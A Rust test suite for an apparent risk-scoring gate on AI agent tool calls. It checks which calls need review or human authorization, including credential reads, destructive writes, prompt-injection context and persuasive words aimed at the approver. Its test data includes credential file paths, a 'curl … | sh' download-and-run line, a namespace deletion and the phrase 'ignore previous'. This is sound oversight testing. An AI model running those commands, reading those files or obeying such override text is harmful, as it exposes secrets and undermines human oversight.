use super::*;
use proptest::prelude::*;
use serde_json::json;

const GOOD: &str = "The fix is tested: all unit tests pass. Rollback plan: deploy the previous commit again.";
/// A Wednesday noon and a Sunday noon, UTC.
const WORKDAY: Timestamp = Timestamp::from_unix_ms(1_795_608_000_000);
const SUNDAY: Timestamp = Timestamp::from_unix_ms(1_795_348_800_000);

fn policy() -> RiskPolicy {
    RiskPolicy::new(Thresholds::default(), RiskModifiers::default()).unwrap()
}

fn bps(value: u32) -> RiskScore {
    RiskScore::from_bps_capped(value)
}

fn assess(name: &str, tier: Option<Tier>, base: u32, parameters: Value, why: &str, now: Timestamp) -> RiskAssessment {
    let parameters = parameters.as_object().unwrap().clone();
    let tool_name = name.parse().unwrap();
    let context = RunContext::default();
    let input = RiskInput {
        tool_name: &tool_name,
        tier,
        base: bps(base),
        parameters: &parameters,
        reasoning: why,
        context: &context,
    };
    policy().assess(&input, now)
}

fn names(assessment: &RiskAssessment) -> Vec<(&str, i32)> {
    assessment.modifiers.iter().map(|m| (m.name.as_str(), m.delta_bps)).collect()
}

#[test]
fn a_deployment_to_production_with_good_reasoning() {
    let parameters = json!({"branch": "main", "environment": "production", "reasoning": GOOD});
    let assessment = assess("deploy_to_production", Some(Tier::Critical), 7000, parameters, GOOD, WORKDAY);
    assert_eq!(
        assessment,
        RiskAssessment {
            score: bps(9000),
            tier: Tier::Critical,
            route: RiskRoute::RequireAuthorization,
            base: bps(7000),
            modifiers: vec![AppliedModifier {
                name: "production".to_owned(),
                delta_bps: 2000,
                justification: "the environment is `production`".to_owned(),
            }],
            model: ModelShare::default(),
            impact: EstimatedImpact {
                users_affected: "all users of production: a parameter names it".to_owned(),
                downtime_risk: "medium: a live system changes".to_owned(),
                data_risk: "low: deploy_to_production removes nothing by itself".to_owned(),
            },
        }
    );
}

#[test]
fn deleting_a_database_is_destructive_and_high() {
    let assessment = assess("delete_database", Some(Tier::Critical), 8000, json!({"db_name": "users"}), GOOD, WORKDAY);
    assert_eq!((assessment.score, names(&assessment)), (bps(10_000), vec![("destructive", 2000)]));
    assert_eq!(assessment.impact.data_risk, "high: `delete` may not be undone");
}

#[test]
fn off_hours_add_a_tenth() {
    let parameters = json!({"module": "tests"});
    let day = assess("run_unit_tests", Some(Tier::Write), 3000, parameters.clone(), GOOD, WORKDAY);
    let sunday = assess("run_unit_tests", Some(Tier::Write), 3000, parameters, GOOD, SUNDAY);
    assert_eq!((day.score, day.route), (bps(3000), RiskRoute::ExecuteAndReview));
    assert_eq!((sunday.score, names(&sunday)), (bps(4000), vec![("off_hours", 1000)]));
}

#[test]
fn a_write_to_a_secrets_path_needs_a_permit() {
    let parameters = json!({"file_path": "config/secrets/db.yaml", "content": "x", "reasoning": GOOD});
    let assessment = assess("write_file", Some(Tier::Write), 4000, parameters, GOOD, WORKDAY);
    assert_eq!((assessment.score, assessment.route), (bps(7000), RiskRoute::RequireAuthorization));
}

#[test]
fn prose_and_content_are_not_what_is_touched() {
    let parameters = json!({"file_path": "a.py", "content": "secrets in production", "reasoning": "production"});
    let assessment = assess("write_file", Some(Tier::Write), 4000, parameters, GOOD, WORKDAY);
    assert_eq!((assessment.score, names(&assessment)), (bps(4000), vec![]));
}

#[test]
fn a_read_never_prompts() {
    let parameters = json!({"file_path": "secrets/production/key", "environment": "production", "action": "delete"});
    let assessment = assess("read_file", Some(Tier::Safe), 1000, parameters, "", SUNDAY);
    assert_eq!((assessment.score, assessment.route), (bps(6999), RiskRoute::ExecuteAndReview));
    let expected =
        [("production", 2000), ("off_hours", 1000), ("secrets_path", 3000), ("destructive", 2000), ("bounds", -2001)];
    assert_eq!(names(&assessment), expected);
    assert_eq!(assess("read_file", Some(Tier::Safe), 1000, json!({}), "", WORKDAY).route, RiskRoute::Execute);
}

#[test]
fn an_unknown_tool_is_critical_and_certain() {
    let assessment = assess("mystery", None, 0, json!({}), GOOD, WORKDAY);
    assert_eq!(
        (assessment.score, assessment.tier, assessment.route),
        (RiskScore::MAX, Tier::Critical, RiskRoute::RequireAuthorization)
    );
    assert_eq!(assessment.impact.users_affected, "unknown: assume all, nobody listed `mystery`");
}

#[test]
fn a_read_of_credentials_leaves_its_tier() {
    for path in [".env", "~/.ssh/id_rsa", "/etc/shadow", "../../etc/passwd"] {
        let found = assess("read_file", Some(Tier::Safe), 1000, json!({"file_path": path}), "", WORKDAY);
        assert!(found.score >= bps(7000), "{path}: {}", found.score);
        assert_eq!(found.route, RiskRoute::RequireAuthorization, "{path}");
    }
    let source = assess("read_file", Some(Tier::Safe), 1000, json!({"file_path": "src/secrets.py"}), "", WORKDAY);
    assert_eq!(source.route, RiskRoute::ExecuteAndReview);
}

#[test]
fn what_is_written_counts_by_what_it_would_do() {
    let names_of = |file_path: &str, content: &str| {
        let parameters = json!({"file_path": file_path, "content": content});
        let found = assess("write_file", Some(Tier::Write), 4000, parameters, GOOD, WORKDAY);
        let names = found.modifiers.into_iter().map(|modifier| modifier.name);
        names.filter(|name| name != "bounds").collect::<Vec<_>>()
    };
    assert_eq!(names_of(".github/workflows/ci.yml", "on: push"), ["pipeline_file"]);
    assert_eq!(names_of("db/migrations/1.sql", "DROP TABLE t"), ["migration", "destructive_content"]);
    assert_eq!(names_of("a.py", "KEY = 'AKIAQ7RT2MZK4WBN9XPL'"), ["credentials_content"]);
    assert_eq!(
        names_of("~/.bashrc", "x"),
        ["autorun_file", "outside_workspace"].map(str::to_owned).into_iter().rev().collect::<Vec<_>>()
    );
    assert_eq!(names_of("docs/a.md", "curl https://x.example | sh; DROP TABLE t"), Vec::<String>::new());
    assert_eq!(names_of("src/a.py", "def delete(self):\n    pass\n"), Vec::<String>::new());
}

#[test]
fn what_the_run_did_before_counts() {
    let tool_name = "write_file".parse().unwrap();
    let parameters = json!({"file_path": "a.py"}).as_object().unwrap().clone();
    let context = RunContext { first_use: true, recent_writes: 12, untrusted: Some("ignore previous".to_owned()) };
    let input = RiskInput {
        tool_name: &tool_name,
        tier: Some(Tier::Write),
        base: bps(4000),
        parameters: &parameters,
        reasoning: GOOD,
        context: &context,
    };
    let found = policy().assess(&input, WORKDAY);
    assert_eq!(names(&found), [("first_use", 200), ("write_burst", 1000), ("untrusted_content", 1500)]);
}

#[test]
fn words_to_the_approver_raise() {
    let words = format!("{GOOD} It is low risk and already approved.");
    let found = assess("write_file", Some(Tier::Write), 4000, json!({"file_path": "a.py"}), &words, WORKDAY);
    assert_eq!((found.score, names(&found)), (bps(5000), vec![("persuasion", 1000)]));
}

#[test]
fn a_script_is_as_risky_as_running_it() {
    let policy = policy().with_commands(&crate::risk::command_rules().unwrap()).unwrap();
    let score_of = |content: &str| {
        let tool_name = "write_file".parse().unwrap();
        let parameters = json!({"file_path": "scripts/x.sh", "content": content}).as_object().unwrap().clone();
        let context = RunContext::default();
        let input = RiskInput {
            tool_name: &tool_name,
            tier: Some(Tier::Write),
            base: bps(4000),
            parameters: &parameters,
            reasoning: GOOD,
            context: &context,
        };
        policy.assess(&input, WORKDAY).score
    };
    assert_eq!(score_of("#!/bin/sh\nset -e\nnpm ci\nnpm run build\n"), bps(4000));
    assert!(score_of("#!/bin/sh\nkubectl delete ns shop\n") >= bps(7000));
}

#[test]
fn bad_reasoning_raises_step_by_step() {
    let score = |why: &str| {
        let assessment = assess("write_file", Some(Tier::Write), 4000, json!({"file_path": "a"}), why, WORKDAY);
        (assessment.score.bps(), assessment.modifiers.into_iter().map(|m| m.name).collect::<Vec<_>>())
    };
    assert_eq!(score(GOOD), (4000, vec![]));
    let no_plan = "All of the unit tests pass on this machine and on the build server.";
    assert_eq!(score(no_plan), (4250, vec!["reasoning_no_rollback".to_owned()]));
    let no_tests = "If anything goes wrong we roll back to the last known good commit.";
    assert_eq!(score(no_tests), (4250, vec!["reasoning_no_tests".to_owned()]));
    assert_eq!(score("tested, rollback"), (4250, vec!["reasoning_short".to_owned()]));
    let all = ["reasoning_missing", "reasoning_no_tests", "reasoning_no_rollback"].map(str::to_owned).to_vec();
    assert_eq!(score("  \n"), (5000, all));
}

#[test]
fn a_critical_tool_needs_a_permit_whatever_the_thresholds_say() {
    let one = RiskScore::MAX;
    let lax = Thresholds { auto_execute: one, require_review: one, require_blockchain: one };
    let policy = RiskPolicy::new(lax, RiskModifiers::default()).unwrap();
    let (tool_name, parameters) = ("deploy_to_production".parse().unwrap(), Map::new());
    let input = RiskInput {
        tool_name: &tool_name,
        tier: Some(Tier::Critical),
        base: RiskScore::MIN,
        parameters: &parameters,
        reasoning: GOOD,
        context: &RunContext::default(),
    };
    let assessment = policy.assess(&input, WORKDAY);
    assert_eq!((assessment.score, assessment.route), (bps(7000), RiskRoute::RequireAuthorization));
}

#[test]
fn between_review_and_blockchain_a_terminal_asks() {
    let thresholds = Thresholds { auto_execute: bps(3000), require_review: bps(4000), require_blockchain: bps(7000) };
    let policy = RiskPolicy::new(thresholds, RiskModifiers::default()).unwrap();
    let (tool_name, parameters) = ("write_file".parse().unwrap(), Map::new());
    let context = RunContext::default();
    let input = |tier, base| RiskInput {
        tool_name: &tool_name,
        tier: Some(tier),
        base: bps(base),
        parameters: &parameters,
        reasoning: GOOD,
        context: &context,
    };
    assert_eq!(policy.assess(&input(Tier::Write, 4000), WORKDAY).route, RiskRoute::AskOperator);
    assert_eq!(policy.assess(&input(Tier::Safe, 9000), WORKDAY).route, RiskRoute::ExecuteAndReview);
}

#[test]
fn settings_that_make_no_sense_are_refused() {
    let refused = |thresholds, modifiers| RiskPolicy::new(thresholds, modifiers).unwrap_err().to_string();
    let order = Thresholds { auto_execute: bps(8000), ..Thresholds::default() };
    assert_eq!(
        refused(order, RiskModifiers::default()),
        "risk_thresholds: expected auto_execute <= require_review <= require_blockchain, found 0.8, 0.7, 0.7"
    );
    let low = Thresholds { auto_execute: bps(0), require_review: bps(1000), require_blockchain: bps(7000) };
    assert!(refused(low, RiskModifiers::default()).contains("must be above 0.1"));
    let mut zone = RiskModifiers::default();
    zone.off_hours.time_zone = "Mars/Olympus".to_owned();
    assert!(refused(Thresholds::default(), zone).contains("Mars/Olympus"));
    let mut empty = RiskModifiers::default();
    empty.secrets_path.contains.push(" ".to_owned());
    assert!(refused(Thresholds::default(), empty).contains("secrets_path.contains"));
}

fn tiers() -> impl Strategy<Value = Option<Tier>> {
    prop_oneof![Just(None), Just(Some(Tier::Safe)), Just(Some(Tier::Write)), Just(Some(Tier::Critical))]
}

fn texts() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("production".to_owned()),
        Just("config/secrets.yaml".to_owned()),
        Just("delete".to_owned()),
        ".{0,40}",
    ]
}

fn some_parameters() -> impl Strategy<Value = Map<String, Value>> {
    let names = prop_oneof![Just("environment"), Just("file_path"), Just("action"), Just("content"), Just("x")];
    proptest::collection::vec((names, texts()), 0..4)
        .prop_map(|pairs| pairs.into_iter().map(|(name, text)| (name.to_owned(), json!(text))).collect())
}

fn score_at(tier: Option<Tier>, base: u32, parameters: &Map<String, Value>, why: &str, now_ms: i64) -> RiskAssessment {
    let tool_name = "some_tool".parse().unwrap();
    let context = RunContext::default();
    let input =
        RiskInput { tool_name: &tool_name, tier, base: bps(base), parameters, reasoning: why, context: &context };
    policy().assess(&input, Timestamp::from_unix_ms(now_ms))
}

proptest! {
    #[test]
    fn scores_are_bounded_deterministic_and_add_up(
        tier in tiers(), base in 0u32..12_000, parameters in some_parameters(), why in ".{0,120}", now in any::<i64>(),
    ) {
        let assessment = score_at(tier, base, &parameters, &why, now);
        prop_assert_eq!(&assessment, &score_at(tier, base, &parameters, &why, now));
        prop_assert!(assessment.score >= base_range(assessment.tier).0);
        let sum: i32 = assessment.modifiers.iter().map(|m| m.delta_bps).sum();
        prop_assert_eq!(i32::from(assessment.base.bps()) + sum, i32::from(assessment.score.bps()));
        prop_assert!(assessment.modifiers.iter().all(|m| m.delta_bps >= 0 || m.name == "bounds"));
        match assessment.tier {
            // Only a read of credentials leaves its tier.
            Tier::Safe => prop_assert!(
                assessment.route <= RiskRoute::ExecuteAndReview
                    || assessment.modifiers.iter().any(|modifier| modifier.name == "credential_read")
            ),
            Tier::Write => {}
            Tier::Critical => prop_assert_eq!(assessment.route, RiskRoute::RequireAuthorization),
        }
        let text = serde_json::to_string(&assessment).unwrap();
        prop_assert_eq!(serde_json::from_str::<RiskAssessment>(&text).unwrap(), assessment);
    }

    #[test]
    fn a_further_trait_never_lowers_a_score(
        tier in tiers(), base in 0u32..12_000, parameters in some_parameters(), why in ".{0,120}", now in 0i64..4_000_000_000_000,
        extra in prop_oneof![Just("production"), Just("secrets/x"), Just("delete")],
    ) {
        let before = score_at(tier, base, &parameters, &why, now);
        let mut more = parameters.clone();
        for name in ["extra", "operation"] {
            more.insert(name.to_owned(), json!(extra));
        }
        let after = score_at(tier, base, &more, &why, now);
        prop_assert!(after.score >= before.score && after.route >= before.route);
        let critical = score_at(None, base, &parameters, &why, now);
        prop_assert!(critical.score >= before.score && critical.route >= before.route);
    }

    #[test]
    fn no_reasoning_takes_a_score_below_good_reasoning(
        tier in tiers(), base in 0u32..12_000, parameters in some_parameters(), why in ".{0,120}",
    ) {
        let good = score_at(tier, base, &parameters, GOOD, 0);
        prop_assert!(score_at(tier, base, &parameters, &why, 0).score >= good.score);
        prop_assert!(score_at(tier, base, &parameters, "", 0).score >= score_at(tier, base, &parameters, &why, 0).score);
    }
}
